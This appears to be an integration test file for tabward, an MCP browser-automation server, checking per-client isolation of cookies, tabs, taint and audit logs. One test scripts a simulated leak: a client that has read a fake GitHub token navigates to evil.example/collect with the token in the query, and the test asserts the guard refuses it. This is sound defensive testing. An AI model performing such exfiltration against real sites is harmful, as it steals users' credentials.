// Several agents at once over `tabward mcp --http` (issue 36): each MCP session is a client with a world of its own
// in one shared browser process — its own browser context (cookies, storage, tabs), its own taint, and its own audit
// session — and a client that leaves (its DELETE, or just gone) leaves no context behind. A slow page in one
// client's tab does not hold another's calls; past --max-sessions an initialize is refused with what to do.
// The real CLI, the real SDK client over Streamable HTTP, real Chromium; every host name maps to the fixtures.

import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
import { inboxOf } from '../helpers/approvalInbox.ts';
import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
import { type Connected, clientsOf, startMcpHttp, stopAll } from '../helpers/mcpHttpClients.ts';
import { initializeBody, postMcp } from '../helpers/rawMcp.ts';
import type { RunningTabward } from '../helpers/tabwardProcess.ts';
import { waitFor } from '../helpers/waitFor.ts';

const secret = 'ghp_clientA_only_7731';

describe('several MCP clients, each in a world of its own', { timeout: 240_000 }, () => {
  let site: Fixture;
  let tabward: RunningTabward;
  let home = '';
  /** Released by the test: the slow page's answer. */
  let releaseSlow: () => void = () => undefined;
  const open: Connected[] = [];
  const { endpoint, token, connect, call, leave } = clientsOf(() => tabward, open);

  before(async () => {
    site = await startFixture(
      {
        '/login': (_req, _body, res) =>
          html(res, '<title>Signed in</title><p>Signed in as A</p>', 200, {
            'set-cookie': 'who=client-a; Path=/',
          }),
        '/whoami': (req, _body, res) =>
          html(res, `<title>Who</title><p>cookie: [${req.headers.cookie ?? 'none'}]</p>`),
        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${secret}</p>`),
        // Not itself sensitive: it brings the token page's content onto itself (a sensitive read, which taints).
        '/repo': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p id="out">loading</p><script>fetch('/settings/tokens').then((r) => r.text()).then((t) => { out.textContent = t.replace(/<[^>]+>/g, ' '); })</script>`,
          ),
        '/fast': (_req, _body, res) => html(res, '<title>Fast</title><p>Quick page</p><button>Go</button>'),
        '/slow': (_req, _body, res) => {
          releaseSlow = () => {
            if (!res.headersSent) html(res, '<title>Slow</title><p>At last</p>');
          };
        },
        '/collect': (_req, _body, res) => html(res, '<title>Collected</title><p>ok</p>'),
      },
      // github.com is on Chromium's HSTS preload list: its pages come over TLS.
      { tls: true },
    );
    home = mkdtempSync(join(tmpdir(), 'tabward-clients-'));
    tabward = await startMcpHttp(
      ['--mode', 'isolated', '--approval', 'deny', '--max-sessions', '3', '--session-idle', '2'],
      home,
    );
  });
  after(async () => {
    releaseSlow();
    await stopAll(tabward, open);
    await site?.close();
    rmSync(home, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
  });

  /** A new tab at `url`, and what it shows. */
  const openAndRead = async (client: Client, url: string) => {
    const opened = await call(client, 'new_page', { url });
    if (opened.isError) return opened;
    return call(client, 'take_snapshot');
  };
  const contextsSeenBy = async (client: Client) => {
    const status = (await call(client, 'browser_status')).text;
    return Number(/(\d+) client context\(s\) in this browser/.exec(status)?.[1] ?? -1);
  };

  test("two clients see and touch only their own tabs and cookies, and one's taint is not the other's", async () => {
    const a = await connect();
    const b = await connect();
    const signedIn = await openAndRead(a.client, site.url('app.example', '/login'));
    assert.match(signedIn.text, /Signed in as A/);

    // B's tabs are its own: A's tab is not listed, and B's first tab is a new one, not A's.
    const listed = await call(b.client, 'list_pages');
    assert.doesNotMatch(listed.text, /app\.example/, listed.text);
    const whoB = await openAndRead(b.client, site.url('app.example', '/whoami'));
    assert.match(whoB.text, /cookie: \[none\]/, "B's context has none of A's cookies");
    const whoA = await call(a.client, 'navigate_page', {
      url: site.url('app.example', '/whoami'),
      snapshot: true,
    });
    assert.match(whoA.text, /cookie: \[who=client-a\]/);
    const statusB = (await call(b.client, 'browser_status')).text;
    assert.match(statusB, /context: this client's own/);
    assert.doesNotMatch(statusB, /\/login|who=client-a/);

    // A reads a sensitive page: A's session is tainted, B's is not.
    await call(a.client, 'navigate_page', { url: site.url('github.com', '/repo') });
    await waitFor('A to see the token on its page', async () =>
      (await call(a.client, 'take_snapshot')).text.includes(secret),
    );
    const sentBefore = site.seen.filter((seen) => seen.path.startsWith('/collect')).length;
    const fromA = await call(a.client, 'navigate_page', {
      url: site.url('evil.example', `/collect?t=${secret}`),
    });
    assert.equal(fromA.isError, true, `A's tainted navigation is refused: ${fromA.text}`);
    const fromB = await call(b.client, 'navigate_page', { url: site.url('evil.example', '/collect?t=b') });
    assert.equal(fromB.isError, false, `B is not tainted by A's read: ${fromB.text}`);
    const sent = site.seen.filter((seen) => seen.path.startsWith('/collect')).slice(sentBefore);
    assert.deepEqual(
      sent.map((seen) => seen.path),
      ['/collect?t=b'],
      'only B reached evil.example; nothing carried A secret',
    );

    // Each client's calls are on the audit record under a session of its own.
    const records = readFileSync(join(home, 'audit.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { session?: string; tool?: string; args?: { url?: string } });
    const sessionOf = (path: string) =>
      new Set(records.filter((record) => record.args?.url?.includes(path)).map((record) => record.session));
    const [sessionA] = [...sessionOf('/login')];
    const [sessionB] = [...sessionOf('/collect?t=b')];
    assert.ok(sessionA && sessionB && sessionA !== sessionB, `${sessionA} vs ${sessionB}`);
    assert.deepEqual([...sessionOf('/repo')], [sessionA]);
    await leave(b);
    await leave(a);
  });

  test("a slow page in one client's tab does not hold another client's calls", async () => {
    const slow = await connect();
    const quick = await connect();
    let slowDone = false;
    const slowCall = call(slow.client, 'new_page', { url: site.url('slow.example', '/slow') }).finally(() => {
      slowDone = true;
    });
    await waitFor('the slow page requested', () => site.seen.some((seen) => seen.path === '/slow'));
    const fast = await openAndRead(quick.client, site.url('fast.example', '/fast'));
    assert.match(fast.text, /Quick page/);
    assert.match(fast.text, /Go/);
    assert.equal(slowDone, false, "the quick client's calls finished while the slow one still waited");
    releaseSlow();
    assert.match((await slowCall).text, /At last|Slow/);
    await leave(slow);
    await leave(quick);
  });

  test('a client that leaves leaves no context behind; past --max-sessions an initialize is refused', async () => {
    const watcher = await connect();
    await call(watcher.client, 'new_page', { url: site.url('app.example', '/fast') });
    assert.equal(await contextsSeenBy(watcher.client), 1, 'ended sessions left no context');
    const leaving = await connect();
    await call(leaving.client, 'new_page', { url: site.url('app.example', '/fast') });
    const third = await connect();
    await call(third.client, 'new_page', { url: site.url('app.example', '/fast') });
    assert.equal(await contextsSeenBy(watcher.client), 3);

    const refused = await postMcp(endpoint(), token(), initializeBody());
    assert.equal(refused.status, 503);
    assert.match(await refused.text(), /at most 3 MCP sessions at once \(--max-sessions\)/);

    // Ended with a DELETE: its context goes at once.
    await leave(third);
    await waitFor(
      'the ended session closed its context',
      async () => (await contextsSeenBy(watcher.client)) === 2,
    );
    // Gone without a word (no DELETE): its event stream closed, so it is closed after --session-idle.
    await leaving.client.close();
    await waitFor(
      'the gone client closed its context',
      async () => (await contextsSeenBy(watcher.client)) === 1,
      { timeoutMs: 30_000 },
    );
    const admitted = await postMcp(endpoint(), token(), initializeBody());
    assert.equal(admitted.status, 200, 'a place is free again');
    await admitted.text();
  });
});

describe("several MCP clients in the user's Chrome", { timeout: 120_000 }, () => {
  let site: Fixture;
  let chrome: UserChrome;
  let tabward: RunningTabward;
  let home = '';
  const open: Connected[] = [];
  const { connect, call } = clientsOf(() => tabward, open);

  before(async () => {
    site = await startFixture(
      {
        '/mine': (_req, _body, res) => html(res, '<title>Mine</title><p>The user reads this</p>'),
        '/a': (_req, _body, res) =>
          html(res, '<title>A</title><p>Client A was here</p><button>Delete</button>'),
        '/b': (_req, _body, res) => html(res, '<title>B</title><p>Client B was here</p>'),
      },
      { tls: true },
    );
    chrome = await startUserChrome({
      chromeArgs: testChromeArgs,
      openTab: site.url('mine.example', '/mine'),
    });
    home = mkdtempSync(join(tmpdir(), 'tabward-clients-chrome-'));
    tabward = await startMcpHttp(
      ['--mode', 'shared', '--ws-endpoint', chrome.wsEndpoint, '--approval', 'deny'],
      home,
    );
  });
  after(async () => {
    await stopAll(tabward, open);
    await chrome?.close();
    await site?.close();
    rmSync(home, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
  });

  test("each client lists and acts in its own tabs and the user's, never another client's", async () => {
    const { client: a } = await connect();
    const { client: b } = await connect();
    assert.match((await call(a, 'new_page', { url: site.url('a.example', '/a') })).text, /"A"/);
    assert.match((await call(b, 'new_page', { url: site.url('b.example', '/b') })).text, /"B"/);
    const listedA = (await call(a, 'list_pages')).text;
    const listedB = (await call(b, 'list_pages')).text;
    assert.match(listedA, /\[user\] \S+\/mine/, "the user's tab is listed to A");
    assert.match(listedB, /\[user\] \S+\/mine/, "the user's tab is listed to B");
    assert.match(listedA, /\[agent\] \S+\/a /);
    assert.doesNotMatch(listedA, /b\.example/, `B's tab is not A's to see:\n${listedA}`);
    assert.doesNotMatch(listedB, /a\.example/, `A's tab is not B's to see:\n${listedB}`);
    // No id B can name reaches A's tab: every tab id is tried.
    for (let n = 1; n <= 6; n++) {
      const read = await call(b, 'take_snapshot', { pageId: `p${n}` });
      assert.doesNotMatch(read.text, /Client A was here/, `p${n} from B: ${read.text}`);
    }
  });
});

describe('several MCP clients asking one human', { timeout: 120_000 }, () => {
  let site: Fixture;
  let tabward: RunningTabward;
  let home = '';
  const open: Connected[] = [];
  const { connect, call } = clientsOf(() => tabward, open);

  before(async () => {
    site = await startFixture(
      {
        // Not itself sensitive; its button posts into a sensitive page of another site.
        '/profile': (_req, _body, res) =>
          html(
            res,
            `<title>Profile</title><form method="post" action="${site.url('github.com', '/settings/emails')}"><button>Add email</button></form>`,
          ),
        'POST /settings/emails': (_req, _body, res) => html(res, '<title>Added</title>'),
      },
      { tls: true },
    );
    home = mkdtempSync(join(tmpdir(), 'tabward-clients-ask-'));
    tabward = await startMcpHttp(['--mode', 'isolated', '--approval', 'inbox', '--no-notify'], home);
  });
  after(async () => {
    await stopAll(tabward, open);
    await site?.close();
    rmSync(home, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
  });

  test("each client's question says which agent asks", async () => {
    const human = inboxOf(home);
    const asked = new Map<string, string>();
    for (const name of ['agent-one', 'agent-two']) {
      const { client } = await connect(name);
      await call(client, 'new_page', { url: site.url('app.example', '/profile') });
      const snapshot = (await call(client, 'take_snapshot')).text;
      const ref = /button Add email[^\n]*@(\S+)/.exec(snapshot)?.[1] ?? '';
      const clicking = call(client, 'click', { ref });
      const question = await waitFor('the question in the inbox', async () =>
        (await human.questions()).find((each) => each.question.includes(`calling itself "${name}"`)),
      ).catch(async (error: unknown) => {
        throw new Error(`${String(error)}: ${JSON.stringify(await human.questions())}`);
      });
      asked.set(name, /Asked by: (.*)/.exec(question.question)?.[1] ?? '');
      await human.answer(question.id, 'reject');
      assert.equal((await clicking).isError, true);
    }
    const [one, two] = [asked.get('agent-one') ?? '', asked.get('agent-two') ?? ''];
    // tabward's session id first, whole; the name the client chose after it, quoted (it cannot pose as another's).
    assert.match(one, /^session \S+-\d+, calling itself "agent-one"$/);
    assert.match(two, /^session \S+-\d+, calling itself "agent-two"$/);
    assert.notEqual(/session (\S+)/.exec(one)?.[1], /session (\S+)/.exec(two)?.[1]);
  });
});
